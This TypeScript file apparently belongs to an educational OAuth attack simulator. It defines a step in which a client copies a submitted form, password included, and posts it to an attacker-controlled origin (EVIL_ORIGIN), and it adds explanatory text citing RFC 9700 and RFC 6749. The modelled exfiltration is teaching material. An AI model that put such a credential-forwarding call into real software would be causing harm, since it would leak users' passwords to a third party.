/** A client that gives away copies of what it is sent: to a service that records forms, and that is the attacker's. */
import { EVIL_ORIGIN } from "@/lib/cast/attacked";
import type { StepContext, Words } from "@/lib/flow/define";
import { carries } from "@/lib/flow/read/labels";
import { post } from "@/lib/http/message";
import { RECORD_PATH } from "@/lib/parties/attacker/password";
import { sent } from "@/lib/vocabulary/presumptions";
import { when } from "@/lib/vocabulary/telling";

/** The copy, byte for byte, of what an open request has brought. @param note the key of its notes */
export async function copyForm({ send, world }: StepContext, note: string): Promise<void> {
	const form = world.open[note]?.request.body ?? "";
	await send("client", post(`${EVIL_ORIGIN}${RECORD_PATH}`, form), { channel: "back", note: "record", phase: "ask" });
}

/** Words for such a copy on its way. */
export const recordWords: Readonly<Record<string, Words>> = {
	"record.request": (message) => ({
		title: [when(sent("password"), "A copy of the password leaves the client"), "A copy of the form leaves the client"],
		text: carries(message, "password")
			? "The client sends every form to a service that records them, with all that stands in it. The service is the attacker's."
			: "There is no password in it.",
		why: "What a client receives lies in more places than its program: logs, error reports, services that measure how a form is used. One leak of them is enough.",
		mistake: "Asking whether the client is honest. An honest one has logs, too.",
		specs: ["RFC 9700 §2.4", "RFC 6749 §10.7"],
		modelled: "Why the client sends the copy. Form and request are real.",
	}),
	"record.response": {
		title: "The service says nothing",
		text: "204: there is nothing to show.",
		why: "The client goes on as if nothing had happened, and so does Ada.",
		specs: ["RFC 6749 §10.7"],
	},
	"record.response.refused": {
		title: "Nobody takes the copy",
		text: "The copy went to an address where nobody takes it.",
		why: "What does not reach the attacker is of no use to it.",
		specs: ["RFC 6749 §10.7"],
	},
};
